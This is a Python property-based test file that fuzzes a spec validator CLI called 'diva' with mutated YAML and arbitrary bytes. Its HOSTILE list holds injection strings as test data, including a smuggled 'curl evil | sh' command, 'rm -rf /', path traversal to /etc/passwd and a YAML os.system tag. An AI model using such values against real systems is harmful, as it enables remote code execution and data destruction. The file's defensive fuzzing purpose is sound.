"""Property-based: mutated specs never crash diva, they are valid (0) or invalid (1).

Mutations start from the real examples: structural ones (delete a key, insert a key,
swap a value's type, plant a hostile string) serialized as JSON — which is YAML —
and textual ones (insert, delete or replace characters of the YAML source).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from ruamel.yaml import YAML

from diva.cli import cli
from tests.support.paths import EXAMPLES

SOURCES = [path.read_text(encoding="utf-8") for path in EXAMPLES]
DATA = [YAML(typ="safe", pure=True).load(text) for text in SOURCES]

HOSTILE = [
    "${{ github.token }}",
    "a\nRUN curl evil | sh",
    "../../etc/passwd",
    "/etc/passwd",
    "~root",
    "C:\\Windows",
    "\x00",
    "\x1b[31m",
    "&anchor",
    "*alias",
    "!!python/object/apply:os.system",
    "'; rm -rf / #",
    "\u202e\u2066",
    "💥" * 50,
    "x" * 5000,
    "",
    " ",
    "-",
]
scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=30),
    st.sampled_from(HOSTILE),
)
values = st.recursive(
    scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=12), inner, max_size=4)
    ),
    max_leaves=10,
)


def _paths(node: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix]
    if isinstance(node, dict):
        for key, value in node.items():
            found += _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += _paths(value, (*prefix, index))
    return found


def _parent(root: Any, path: tuple[Any, ...]) -> Any:
    for part in path[:-1]:
        root = root[part]
    return root


def _mutate(data: Any, draw: st.DrawFn) -> Any:
    data = json.loads(json.dumps(data))
    for _ in range(draw(st.integers(min_value=1, max_value=4))):
        paths = [path for path in _paths(data) if path]
        if not paths:
            break
        path = draw(st.sampled_from(paths))
        parent = _parent(data, path)
        action = draw(st.sampled_from(["delete", "replace", "insert", "hostile"]))
        if action == "delete":
            del parent[path[-1]]
        elif action == "replace":
            parent[path[-1]] = draw(values)
        elif action == "hostile":
            parent[path[-1]] = draw(st.sampled_from(HOSTILE))
        elif isinstance(parent, dict):
            parent[draw(st.one_of(st.text(max_size=12), st.sampled_from(HOSTILE)))] = draw(values)
        else:
            parent.insert(draw(st.integers(0, len(parent))), draw(values))
    return data


def _validate(tmp_path: Path, content: bytes) -> None:
    spec = tmp_path / "diva.yaml"
    spec.write_bytes(content)
    result = CliRunner().invoke(cli, ["validate", str(spec)])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    assert result.exit_code in (0, 1), result.output
    if result.exit_code == 1:
        assert f"{spec}:" in result.output


SETTINGS = settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@SETTINGS
@given(example=st.sampled_from(range(len(DATA))), draw=st.data())
def test_structural_mutations_never_crash(
    tmp_path: Path, example: int, draw: st.DataObject
) -> None:
    mutated = _mutate(DATA[example], draw.draw)
    _validate(tmp_path, json.dumps(mutated, allow_nan=True).encode())


@SETTINGS
@given(example=st.sampled_from(range(len(SOURCES))), draw=st.data())
def test_textual_mutations_never_crash(tmp_path: Path, example: int, draw: st.DataObject) -> None:
    text = SOURCES[example]
    for _ in range(draw.draw(st.integers(min_value=1, max_value=5))):
        start = draw.draw(st.integers(0, len(text)))
        end = draw.draw(st.integers(start, min(len(text), start + 20)))
        insert = draw.draw(
            st.one_of(
                st.text(max_size=10),
                st.sampled_from(
                    [*HOSTILE, ":", "- ", "\t", "{", "[", '"', "'", "---\n", "&a ", "*a", "? "]
                ),
            )
        )
        text = text[:start] + insert + text[end:]
    _validate(tmp_path, text.encode("utf-8", errors="surrogatepass"))


@SETTINGS
@given(raw=st.binary(max_size=200))
def test_arbitrary_bytes_never_crash(tmp_path: Path, raw: bytes) -> None:
    _validate(tmp_path, raw)
